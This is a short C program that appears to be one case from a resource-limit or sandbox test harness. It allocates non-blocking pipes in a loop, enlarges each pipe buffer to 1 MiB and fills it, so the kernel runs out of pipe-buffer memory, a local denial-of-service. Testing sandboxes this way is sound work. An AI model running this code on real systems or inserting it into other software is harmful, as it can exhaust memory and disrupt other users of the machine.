#include "attack.h"
int main(void)
{
	static char block[1 << 20];
	int p[2];
	while (pipe2(p, O_NONBLOCK) == 0) {
		fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
		while (write(p[1], block, sizeof block) > 0) { }
	}
	return finish();
}
